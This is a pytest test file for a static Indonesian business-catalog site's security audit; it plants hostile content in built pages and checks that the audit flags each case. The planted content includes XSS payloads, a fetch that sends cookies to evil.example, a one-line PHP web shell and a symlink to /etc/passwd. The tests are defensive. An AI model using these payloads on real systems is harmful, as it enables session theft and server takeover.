"""Post-build audit: a real tiny site passes; the same site poisoned in each way fails with its message."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from PIL import Image

from generator.core.problems import Problem
from generator.outputs.audit import audit_site, theme_inline_scripts
from tests.conftest import MATERIAL_TEMPLATES, ROOT, SAMPLE_SITE_URL, TODAY, MakeEntry, dump_entry, inject, run_build, write_image

SITE_URL = SAMPLE_SITE_URL
PAGE = "usaha/telaga-batik/index.html"
ENTRY = {
    "nama": "Telaga Batik",
    "sektor": "fesyen",
    "kecamatan": "Cibitung",
    "ringkasan": "Batik tulis dan cap khas Bekasi.",
    "kontak": {"whatsapp": "0812-1934-5521", "situs": "https://telagabatik.example.id"},
    "toko_online": [{"platform": "tokopedia", "url": "https://www.tokopedia.com/telagabatik"}],
    "sertifikasi": [{"jenis": "halal", "nomor": "ID32110000145680323"}],
    "produk": [{"nama": "Batik Tulis", "harga": "385000", "foto": ["foto/batik.jpg"]}],
    "foto": ["foto/sampul.jpg"],
}


def audit(site: Path) -> list[Problem]:
    return audit_site(site, site_url=SITE_URL, inline_scripts=theme_inline_scripts([MATERIAL_TEMPLATES]))


@pytest.fixture(scope="module")
def clean_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One real build of a tiny catalog (photos, links, certificates), shared by the tests here."""
    project = tmp_path_factory.mktemp("audit")
    for name in ("mkdocs.yml", "wilayah.yml"):
        shutil.copy(ROOT / name, project / name)
    for folder in ("theme", "halaman"):
        shutil.copytree(ROOT / folder, project / folder)
    entry = project / "catalog" / "telaga-batik"
    for name, size in (("foto/sampul.jpg", (900, 600)), ("foto/batik.jpg", (800, 800))):
        write_image(entry / name, size)
    body = "## Sejarah\n\nDimulai **2017**. Lihat [toko kami](https://telagabatik.example.id).\n"
    (entry / "index.md").write_text(dump_entry(ENTRY, body), encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 0, result.stderr
    return project / "site"


@pytest.fixture
def site(clean_site: Path, tmp_path: Path) -> Path:
    """A private copy of the clean site for a test to poison."""
    return Path(shutil.copytree(clean_site, tmp_path / "site", symlinks=True))


def third_party(host: str) -> str:
    return f"memuat sumber dari host pihak ketiga '{host}' tidak diizinkan; terbitkan berkasnya di situs sendiri (third-party resource)"


def test_clean_build_passes_the_audit(clean_site: Path) -> None:
    assert audit(clean_site) == []


UNKNOWN_SCRIPT = "skrip sisipan yang tidak dikenal ('{}'); hanya skrip bawaan tema yang boleh ada (unknown inline script)"
NIK_FOUND = "nomor 16 angka seperti NIK (nomor KTP) tidak boleh diterbitkan (ditemukan 3216************) (NIK-shaped number)"


@pytest.mark.parametrize(
    ("markup", "field", "message"),
    [
        ("<script>alert(document.cookie)</script>", "<script>", UNKNOWN_SCRIPT.format("alert(document.cookie)")),
        # `<script/>` is not self-closing to a browser: the text after it runs.
        ("<script/>alert(1)</script>", "<script>", UNKNOWN_SCRIPT.format("alert(1)")),
        ('<script type="module">import("//evil.example/x.js")</script>', "<script>", UNKNOWN_SCRIPT.format('import("//evil.example/x.js")')),
        ('<a href="#" onclick="alert(1)">x</a>', "a[onclick]", "atribut penangan peristiwa 'onclick' tidak diizinkan (event handler attribute)"),
        ('<svg><circle r="1" onmouseover="alert(1)"/></svg>', "circle[onmouseover]", "atribut penangan peristiwa 'onmouseover' tidak diizinkan (event handler attribute)"),
        ('<a href="javascript:alert(1)">x</a>', "a[href]", "alamat 'javascript:' tidak diizinkan (ditemukan 'javascript:alert(1)') (javascript: URL)"),
        # Entities and a tab inside the scheme: browsers still run it.
        ('<a href="&#x6A;ava&#x09;script:alert(1)">x</a>', "a[href]", "alamat 'javascript:' tidak diizinkan (ditemukan 'java script:alert(1)') (javascript: URL)"),
        ('<a href="data:text/html,&lt;script&gt;">x</a>', "a[href]", "alamat 'data:' tidak diizinkan (ditemukan 'data:text/html,<script>') (data: URL)"),
        ('<form action="javascript:alert(1)"></form>', "form[action]", "alamat 'javascript:' tidak diizinkan (ditemukan 'javascript:alert(1)') (javascript: URL)"),
        ('<img src="https://evil.example/x.png" alt="">', "img[src]", third_party("evil.example")),
        ('<img src="a.jpg" srcset="a.jpg 1x, //evil.example/b.png 2x" alt="">', "img[srcset]", third_party("evil.example")),
        ('<script src="https://cdn.evil.example/x.js"></script>', "script[src]", third_party("cdn.evil.example")),
        ('<link rel="stylesheet" href="https://fonts.evil.example/css">', "link[href]", third_party("fonts.evil.example")),
        ('<iframe src="https://evil.example/"></iframe>', "iframe[src]", third_party("evil.example")),
        ('<picture><source srcset="https://evil.example/x.webp"></picture>', "source[srcset]", third_party("evil.example")),
        (
            '<script src="../../foto/telaga-batik/x.js"></script>',
            "<script>",
            "skrip dari berkas yang tidak dikenal '../../foto/telaga-batik/x.js'; hanya skrip tema dan katalog yang boleh dimuat (unknown script)",
        ),
        ('<iframe srcdoc="&lt;p&gt;"></iframe>', "iframe[srcdoc]", "atribut srcdoc tidak diizinkan: isinya halaman yang dapat menjalankan skrip (inline frame document)"),
        ('<object data="x.swf"></object>', "<object>", "elemen <object> tidak diizinkan (embedded active content)"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>", 'pengalihan otomatis <meta http-equiv="refresh"> tidak diizinkan (automatic redirect)'),
        ("<style>body{background:url(https://evil.example/bg.png)}</style>", "<style>", third_party("evil.example")),
        ('<div style="background:url(javascript:alert(1))"></div>', "div[style]", "alamat 'javascript:' tidak diizinkan (ditemukan 'javascript:alert(1') (javascript: URL)"),
        ("<p>NIK pemilik: 3216014508900001</p>", "NIK", NIK_FOUND),
        ("<p>NIK 3216 0145 0890 0001</p>", "NIK", NIK_FOUND),
    ],
)
def test_poisoned_page_fails_the_audit(site: Path, markup: str, field: str, message: str) -> None:
    line = inject(site, PAGE, markup)
    assert audit(site) == [Problem(Path(PAGE), line, field, message)]


def test_links_to_the_businesses_and_portals_are_allowed(site: Path) -> None:
    inject(site, PAGE, '<a href="https://shop.example/x" rel="noopener">toko</a> <a href="mailto:a@example.id">surel</a> <a href="tel:+6281219345521">telepon</a>')
    inject(site, PAGE, '<script type="application/ld+json">{"@type": "LocalBusiness"}</script>')
    assert audit(site) == []


def test_tampered_theme_script_fails_the_audit(site: Path) -> None:
    path = site / PAGE
    text = path.read_text(encoding="utf-8")
    start = text.index("<script>__md_scope=")
    end = text.index("</script>", start)
    path.write_text(text[:end] + ';fetch("//evil.example/?"+document.cookie)' + text[end:], encoding="utf-8")
    problems = audit(site)
    assert [(p.path, p.field) for p in problems] == [(Path(PAGE), "<script>")]
    assert problems[0].message.startswith("skrip sisipan yang tidak dikenal ('__md_scope=new URL(")


def test_css_loading_from_a_third_party_host_fails_the_audit(site: Path) -> None:
    css = site / "assets" / "umkm.css"
    lines = css.read_text(encoding="utf-8").count("\n")
    with css.open("a", encoding="utf-8") as file:
        file.write('\n.a{background:url("data:image/svg+xml;charset=utf-8,<svg/>")}\n')  # theme-style icon: allowed
        file.write(".b{background:url(https://evil.example/x.png)}\n")
        file.write('@import "https://fonts.evil.example/f.css";\n')
    assert audit(site) == [
        Problem(Path("assets/umkm.css"), lines + 3, "url()", third_party("evil.example")),
        Problem(Path("assets/umkm.css"), lines + 4, "@import", third_party("fonts.evil.example")),
    ]


def test_image_with_exif_or_gps_fails_the_audit(site: Path) -> None:
    exif = Image.Exif()
    exif[0x010F] = "Telepon"  # camera make
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "S", (6.0, 17.0, 24.0)
    Image.new("RGB", (32, 24), (200, 100, 50)).save(site / "foto" / "telaga-batik" / "rumah.jpg", exif=exif)
    camera = Image.Exif()
    camera[0x010F] = "Telepon"
    published = sorted((site / "foto" / "telaga-batik").glob("*.webp"))[0]
    Image.new("RGB", (32, 24)).save(published, exif=camera)
    Image.new("RGB", (32, 24)).save(site / "foto" / "telaga-batik" / "xmp.png", pnginfo=_xmp_chunk())
    (site / "foto" / "telaga-batik" / "palsu.jpg").write_text("<svg onload=alert(1)>", encoding="utf-8")
    metadata = "hanya foto hasil pengolahan foto (tanpa metadata) yang boleh diterbitkan"
    expected = [
        Problem(Path("foto/telaga-batik/palsu.jpg"), None, "", "isi berkas bukan gambar JPEG yang sah (file content is not a valid image)"),
        Problem(Path("foto/telaga-batik/rumah.jpg"), None, "EXIF", f"gambar memuat lokasi GPS dalam metadata EXIF; {metadata} (image has GPS location)"),
        Problem(Path(f"foto/telaga-batik/{published.name}"), None, "EXIF", f"gambar memuat metadata EXIF; {metadata} (image has EXIF metadata)"),
        Problem(Path("foto/telaga-batik/xmp.png"), None, "XMP", f"gambar memuat metadata XMP; {metadata} (image has XMP metadata)"),
    ]
    assert audit(site) == sorted(expected, key=Problem.sort_key)


def _xmp_chunk() -> object:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", '<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>6,17S</exif:GPSLatitude></x:xmpmeta>')
    return info


def test_files_outside_the_allow_list_fail_the_audit(site: Path) -> None:
    (site / "x.exe").write_bytes(b"MZ")
    (site / "usaha" / "shell.php").write_text("<?php system($_GET['c']);", encoding="utf-8")
    (site / ".htaccess").write_text("Options +ExecCGI\n", encoding="utf-8")
    (site / "usaha" / "telaga-batik" / "index.md").write_text("---\nnik: x\n---\n", encoding="utf-8")
    (site / "foto" / "logo.svg").write_text("<svg/>", encoding="utf-8")
    (site / "assets" / "ikon-jahat.svg").write_text('<svg><script>alert(1)</script><image href="https://evil.example/x.png"/></svg>', encoding="utf-8")
    not_allowed = "tidak ada di daftar yang boleh diterbitkan (file type not allowed)"
    assert audit(site) == [
        Problem(Path(".htaccess"), None, "", f"jenis berkas '.htaccess' {not_allowed}"),
        Problem(Path("assets/ikon-jahat.svg"), 1, "<script>", "skrip di dalam berkas SVG tidak diizinkan (script in SVG)"),
        Problem(Path("assets/ikon-jahat.svg"), 1, "image[href]", third_party("evil.example")),
        Problem(Path("foto/logo.svg"), None, "", "berkas '.svg' hanya boleh ada di assets/ atau qr/ (file type not allowed here)"),
        Problem(Path("usaha/shell.php"), None, "", f"jenis berkas '.php' {not_allowed}"),
        Problem(Path("usaha/telaga-batik/index.md"), None, "", f"jenis berkas '.md' {not_allowed}"),
        Problem(Path("x.exe"), None, "", f"jenis berkas '.exe' {not_allowed}"),
    ]


def test_symlinks_fail_the_audit_and_are_not_followed(site: Path, tmp_path: Path) -> None:
    secret = tmp_path / "rahasia"
    secret.mkdir()
    (secret / "ktp.txt").write_text("3216014508900001\n", encoding="utf-8")
    (site / "rahasia").symlink_to(secret, target_is_directory=True)
    (site / "usaha" / "passwd.txt").symlink_to("/etc/passwd")
    symlink = "tautan simbolik (symlink) tidak boleh ada di situs (symlink in site)"
    assert audit(site) == [Problem(Path("rahasia"), None, "", symlink), Problem(Path("usaha/passwd.txt"), None, "", symlink)]


def test_nik_in_any_text_file_fails_the_audit(site: Path) -> None:
    (site / "data").mkdir(exist_ok=True)
    (site / "data" / "bocor.csv").write_text("nama,nik\nIbu Siti,3216014508900001\n", encoding="utf-8")
    # Not a NIK: part of a longer number, a hash whose digits are no NIK, or groups that are no birth date.
    (site / "data" / "aman.txt").write_text("32160145089000012\nab9916014508900001\n2019 2020 2021 2022\n", encoding="utf-8")
    assert audit(site) == [Problem(Path("data/bocor.csv"), 2, "NIK", NIK_FOUND)]


def test_gzip_files_are_read_and_a_damaged_one_is_refused(site: Path) -> None:
    import gzip

    (site / "sitemap.xml.gz").write_bytes(gzip.compress(b"<urlset>\n<loc>3216014508900001</loc>\n</urlset>\n", mtime=0))
    (site / "data").mkdir(exist_ok=True)
    (site / "data" / "rusak.json.gz").write_bytes(b"\x1f\x8bbukan gzip")
    assert audit(site) == [
        Problem(Path("data/rusak.json.gz"), None, "", "berkas gzip rusak atau terlalu besar setelah dibuka (damaged or oversized gzip file)"),
        Problem(Path("sitemap.xml.gz"), 2, "NIK", NIK_FOUND),
    ]


def test_sanitizer_regression_is_caught_by_the_audit(
    project: Path, make_entry: MakeEntry, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """If the story sanitizer ever let a handler through, the build would still fail."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config
    from mkdocs.exceptions import Abort

    from generator.outputs import story

    monkeypatch.setenv("UMKM_TANGGAL", TODAY.isoformat())
    monkeypatch.setenv("UMKM_SITE_URL", SITE_URL)
    monkeypatch.setattr(story, "sanitize_html", lambda html: html)  # the regression
    make_entry("bocor", body='Kunjungi <a href="https://bocor.example" onclick="alert(1)">kami</a> (audit-regresi).\n')
    with pytest.raises(Abort):  # MkDocs logs the PluginError, then aborts
        build(load_config(str(project / "mkdocs.yml")))
    errors = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(errors) == 1
    assert errors[0].startswith("Audit keamanan situs gagal; situs ini tidak boleh diterbitkan (site security audit failed):\n")
    assert "a[onclick]: atribut penangan peristiwa 'onclick' tidak diizinkan (event handler attribute)" in errors[0]
    assert "usaha/bocor/index.html:" in errors[0]


def test_failed_audit_fails_umkm_build_and_keeps_the_old_site(project: Path, make_entry: MakeEntry) -> None:
    make_entry("baik")
    assert run_build(project).returncode == 0
    marker = project / "site" / "penanda.txt"
    marker.write_text("situs lama", encoding="utf-8")
    # A theme override with raw HTML (the Dinas' own pages are sanitized: tests/test_site_policy.py).
    with (project / "theme" / "main.html").open("a", encoding="utf-8") as file:
        file.write('\n{% block announce %}<b onclick="alert(1)">Klik</b>{% endblock %}\n')
    result = run_build(project)
    assert result.returncode == 1
    assert "Audit keamanan situs gagal" in result.stderr
    assert "b[onclick]: atribut penangan peristiwa 'onclick' tidak diizinkan (event handler attribute)" in result.stderr
    assert "Traceback" not in result.stderr
    assert marker.read_text(encoding="utf-8") == "situs lama"
    assert "onclick" not in (project / "site" / "tentang" / "index.html").read_text(encoding="utf-8")
    assert not [p for p in project.iterdir() if p.name.startswith(".site.")]


def test_theme_scripts_are_read_from_the_templates(tmp_path: Path) -> None:
    partial = tmp_path / "partials" / "javascripts" / "base.html"
    partial.parent.mkdir(parents=True)
    partial.write_text('{#- comment -#}\n<script>x=new URL("{{ base_url }}",location)</script>\n', encoding="utf-8")
    (pattern,) = theme_inline_scripts([tmp_path])
    assert pattern.fullmatch('x=new URL("../..",location)')
    assert pattern.fullmatch('x=new URL("/katalog/",location)')
    assert not pattern.fullmatch('x=new URL("",alert(1)),location)')  # cannot leave the string
    assert not pattern.fullmatch('x=new URL("a",location);alert(1)')


def test_every_file_is_audited_on_every_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # No verdict is kept between builds: a cache folder comes back from CI and is never trusted for
    # a security decision, so a file the audit passed once is parsed again every time.
    from generator.outputs import audit

    site = tmp_path / "site"
    site.mkdir()
    (site / "a.html").write_text("<!doctype html><p>Halo</p>")
    (site / "b.html").write_text("<!doctype html><p>Dunia</p>")
    assert audit.audit_site(site) == []
    parsed: list[str] = []
    original = audit._audit_file
    monkeypatch.setattr(audit, "_audit_file", lambda path, rel, rules: parsed.append(rel) or original(path, rel, rules))
    assert audit.audit_site(site) == []
    assert sorted(parsed) == ["a.html", "b.html"]
    (site / "b.html").write_text('<!doctype html><p onclick="x()">Dunia</p>')
    assert [p.field for p in audit.audit_site(site)] == ["p[onclick]"]
    assert [p.field for p in audit.audit_site(site)] == ["p[onclick]"]
